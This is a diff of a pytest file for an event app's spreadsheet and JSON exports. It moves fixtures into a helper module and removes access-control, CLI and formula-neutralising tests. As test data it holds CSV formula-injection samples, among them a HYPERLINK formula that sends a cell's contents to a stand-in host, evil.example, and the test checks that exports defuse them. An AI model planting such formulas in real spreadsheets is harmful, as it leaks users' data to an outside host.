@@ -1,15 +1,12 @@
-"""Exports of a fair read back: CSV (as Excel in Poland reads it), XLSX (openpyxl), JSON; no
-secrets in any of them; organisers only; the CLI."""
+"""Exports of a fair (app/reports/exports.py) read back: CSV (as Excel in Poland reads it), XLSX
+(openpyxl), JSON; no secrets in any of them."""
 
 from __future__ import annotations
 
-import csv
 import io
 import json
 from collections.abc import Callable, Iterator
-from dataclasses import dataclass
-from datetime import date, datetime
-from pathlib import Path
+from datetime import datetime
 from typing import Any
 
 import pytest
@@ -17,75 +14,19 @@ from flask import Flask
 from flask.testing import FlaskClient
 from openpyxl import load_workbook
 
-from app.agreements.drafting import ObligationData
 from app.agreements.models import Agreement
 from app.core.extensions import db
-from app.core.spreadsheets import csv_cell, neutralise, sheet_title
 from app.door.checkin import check_in
 from app.fairs.models import Fair
 from app.fairs.roles import Role
-from app.floor.kinds import PostKind, Unit
-from app.floor.models import Post
 from app.people.models import Participant
 from app.people.sectors import Sector
 from app.reports.exports import TABLES, export_file
 from tests.agreements.conftest import _no_render_left_running, make_signed_agreement  # noqa: F401  (fixtures)
+from tests.reports import exports_fair
+from tests.reports.exports_fair import FORMULA_TITLE, Scripted, get, read_csv
 
-BOM = b"\xef\xbb\xbf"
-FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'
-
-
-@dataclass
-class Scripted:
-    fair: Fair
-    organiser: Participant
-    people: list[Participant]
-    agreement: Agreement
-    posts: list[Post]
-
-
-@pytest.fixture
-def scripted(trading_fair: Fair, organiser: Participant, notary: Participant,
-             make_participant: Callable[..., Participant], make_post: Callable[..., Post],
-             make_signed_agreement: Callable[..., Agreement]) -> Scripted:  # noqa: F811
-    """A small fair with Polish names, a formula-looking post, a check-in and a signed agreement."""
-    ala = make_participant("Łucja", "Żółkiewska", organisation="Fundacja „Źdźbło”", sector=Sector.NGO,
-                           phone="+48 600 100 200", email="lucja@example.org", password="Hasło-łucji-123")
-    jan = make_participant("Grzegorz", "Brzęczyszczykiewicz", organisation="Spółdzielnia Socjalna Łąka",
-                           sector=Sector.SOCIAL_COOPERATIVE, email="grzegorz@example.org")
-    posts = [
-        make_post(ala, title=FORMULA_TITLE, details="-2+3 i @SUMA(A1)", quantity=3, unit=Unit.HOURS),
-        make_post(jan, title="@dom kultury — sala", kind=PostKind.NEED, category_key="equipment",
-                  details="=2+5 godzin pracy"),
-        make_post(jan, title="+ rzutnik multimedialny"),
-    ]
-    check_in(organiser, trading_fair.id, ala.badge_code)
-    agreement = make_signed_agreement(ala, jan, obligations=[
-        ObligationData(ala.organisation_id, jan.organisation_id, "Sala konferencyjna — żółta", quantity=3,
-                       unit=Unit.HOURS, points=30, due_date=date(2027, 3, 14)),
-        ObligationData(jan.organisation_id, ala.organisation_id, "=1+1 szkolenie", hours=4, points=40),
-    ])
-    return Scripted(trading_fair, organiser, [organiser, notary, ala, jan], agreement, posts)
-
-
-@pytest.fixture
-def as_organiser(scripted: Scripted, login: Callable[[Participant], None]) -> Scripted:
-    login(scripted.organiser)
-    return scripted
-
-
-def read_csv(data: bytes) -> list[list[str]]:
-    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
-
-
-def get(client: FlaskClient, path: str) -> bytes:
-    r = client.get(path)
-    assert r.status_code == 200, r.data[:500]
-    assert r.headers["Cache-Control"] == "no-store"
-    assert r.headers["Content-Disposition"].startswith("attachment; filename=")
-    return r.data
-
+scripted, as_organiser = exports_fair.scripted, exports_fair.as_organiser  # fixtures
 
 # --- CSV --------------------------------------------------------------------------------------
 
@@ -185,11 +126,6 @@ def test_every_table_downloads_as_csv_and_xlsx_in_english_too(client: FlaskClien
         assert read_csv(get(client, f"/f/tczew/admin/exports/{table}.csv"))[0]
         book = load_workbook(io.BytesIO(get(client, f"/f/tczew/admin/exports/{table}.xlsx")))
         assert len(book.sheetnames) == 1
-
-
-def test_unknown_table_is_404(client: FlaskClient, as_organiser: Scripted) -> None:
-    assert client.get("/f/tczew/admin/exports/secrets.csv").status_code == 404
-    assert client.get("/f/tczew/admin/exports/fair.csv").status_code == 404
 
 
 # --- XLSX -------------------------------------------------------------------------------------
@@ -319,137 +255,9 @@ def test_no_export_contains_a_secret(client: FlaskClient, as_organiser: Scripted
         assert "/login/" not in text
 
 
-# --- access -----------------------------------------------------------------------------------
-
-def test_only_organisers_of_the_fair_get_exports(client: FlaskClient, scripted: Scripted,
-                                                 login: Callable[[Participant], None],
-                                                 make_fair: Callable[..., Fair],
-                                                 make_participant: Callable[..., Participant]) -> None:
-    paths = ["/f/tczew/admin/exports", "/f/tczew/admin/exports/participants.csv",
-             "/f/tczew/admin/exports/posts.xlsx", "/f/tczew/admin/exports/fair.xlsx",
-             "/f/tczew/admin/exports/fair.json"]
-    for path in paths:  # nobody logged in: to the login page
-        r = client.get(path)
-        assert r.status_code == 302 and "/f/tczew/login" in r.headers["Location"]
-    login(scripted.people[2])  # a participant
-    for path in paths:
-        assert client.get(path).status_code == 403
-    login(scripted.people[1])  # the notary
-    for path in paths:
-        assert client.get(path).status_code == 403
-    other = make_fair(slug="gdansk")
-    login(make_participant("Ewa", "Ślęzak", role=Role.ORGANISER, fair_id=other.id))  # another fair's organiser
-    for path in paths:
-        assert client.get(path).status_code == 403
-
-
-def test_exports_page_lists_the_downloads(client: FlaskClient, as_organiser: Scripted) -> None:
-    r = client.get("/f/tczew/admin/exports")
-    assert r.status_code == 200
-    page = r.data.decode()
-    for table in TABLES:
-        assert f'href="/f/tczew/admin/exports/{table}.csv"' in page
-        assert f'href="/f/tczew/admin/exports/{table}.xlsx"' in page
-    assert 'href="/f/tczew/admin/exports/fair.xlsx"' in page
-    assert 'href="/f/tczew/admin/exports/fair.json"' in page
-    assert "średnikami" in page  # says the CSV files are ;-separated
-
-
-def test_follow_up_page_links_to_the_exports(client: FlaskClient, as_organiser: Scripted) -> None:
-    page = client.get("/f/tczew/admin/follow-up").data.decode()
-    assert 'href="/f/tczew/admin/exports"' in page
-
-
-# --- CLI --------------------------------------------------------------------------------------
-
-def test_cli_writes_each_format(runner: Any, scripted: Scripted, tmp_path: Path) -> None:
-    out = tmp_path / "uczestnicy.csv"
-    result = runner.invoke(args=["fair", "export", "tczew", "--format", "csv", "--table", "participants",
-                                 "--output", str(out)])
-    assert result.exit_code == 0, result.output
-    rows = read_csv(out.read_bytes())
-    assert ("Łucja", "Żółkiewska") in {(r[1], r[2]) for r in rows}
-
-    out = tmp_path / "fair.xlsx"
-    result = runner.invoke(args=["fair", "export", "tczew", "--format", "xlsx", "-o", str(out)])
-    assert result.exit_code == 0, result.output
-    assert len(load_workbook(out).sheetnames) == len(TABLES)
-
-    out = tmp_path / "fair.json"
-    result = runner.invoke(args=["fair", "export", "tczew", "--format", "json", "-o", str(out)])
-    assert result.exit_code == 0, result.output
-    assert json.loads(out.read_text("utf-8"))["fair"]["slug"] == "tczew"
-
-
-def test_cli_refuses_what_does_not_exist(runner: Any, scripted: Scripted, tmp_path: Path) -> None:
-    out = tmp_path / "x"
-    result = runner.invoke(args=["fair", "export", "tczew", "--format", "csv", "-o", str(out)])
-    assert result.exit_code != 0 and "one table" in result.output
-    result = runner.invoke(args=["fair", "export", "nowhere", "--format", "json", "-o", str(out)])
-    assert result.exit_code != 0 and "no fair" in result.output
-    result = runner.invoke(args=["fair", "export", "tczew", "--format", "json", "--table", "posts", "-o", str(out)])
-    assert result.exit_code != 0
-    assert not out.exists()
-
-
-def test_cli_table_choices_are_the_export_tables(app: Flask) -> None:
-    from app.reports.cli import export_command
-
-    option = next(p for p in export_command.params if p.name == "table")
-    assert tuple(option.type.choices) == TABLES  # type: ignore[attr-defined]
-
-
-# --- the spreadsheet helpers --------------------------------------------------------------------
-
-@pytest.mark.parametrize("text", ["=1+1", "+48", "-2", "@SUM(A1)", "\tx", "\rx"])
-def test_neutralise_prefixes_formula_starts(text: str) -> None:
-    assert neutralise(text) == "'" + text
-
-
-@pytest.mark.parametrize("text", ["Łódź", "", "1+1", " =x", "'=x"])
-def test_neutralise_leaves_plain_text(text: str) -> None:
-    assert neutralise(text) == text
-
-
-def test_csv_cell_types() -> None:
-    assert csv_cell(-5) == "-5"  # a number, not a formula
-    assert csv_cell(None) == ""
-    assert csv_cell(True, "tak", "nie") == "tak"
-    assert csv_cell(date(2027, 3, 14)) == "2027-03-14"
-    from datetime import UTC
-
-    assert csv_cell(datetime(2027, 3, 14, 9, 5, tzinfo=UTC)) == "2027-03-14 10:05"  # Polish time (CET)
-
-
-def test_sheet_titles_are_valid_and_unique() -> None:
-    taken: set[str] = set()
-    assert sheet_title("Umowy: 2027/03?", taken) == "Umowy- 2027-03-"
-    long = "x" * 40
-    assert sheet_title(long, taken) == "x" * 31
-    assert sheet_title(long, taken) == "x" * 27 + " (2)"
-
-
 def test_export_file_names(app: Flask, fair: Fair) -> None:
     assert export_file(fair, "csv", "check_ins").filename == "tczew-check-ins.csv"
     assert export_file(fair, "xlsx").filename == "tczew-fair.xlsx"
     assert export_file(fair, "json").filename == "tczew-fair.json"
     with pytest.raises(ValueError):
         export_file(fair, "pdf")
-
-
-def test_ledger_statement_csv_neutralises_typed_text(app: Flask) -> None:
-    """The points statement CSV (app/ledger/exports.py) shares the neutralising helper."""
-    from datetime import UTC
-
-    from app.ledger.exports import statement_csv
-    from app.ledger.models import EntryKind
-    from app.ledger.statements import Statement, StatementLine
-
-    line = StatementLine(entry_id=1, at=datetime(2027, 3, 14, 9, tzinfo=UTC), kind=next(iter(EntryKind)),
-                         memo="=HYPERLINK(\"http://evil.example\")", counterparties=("@Fundacja Ćma",),
-                         points=-45, balance=-45, actor="", source=None, reverses_id=None, reversed_by_id=None)
-    rows = read_csv(statement_csv(Statement(account=None, since=None, until=None, opening=0, closing=-45,  # type: ignore[arg-type]
-                                            lines=(line,))).encode("utf-8"))
-    row = next(r for r in rows if r[1] == "1")
-    assert row[3] == "'=HYPERLINK(\"http://evil.example\")" and row[4] == "'@Fundacja Ćma"
-    assert row[5] == "-45"  # numbers are not touched
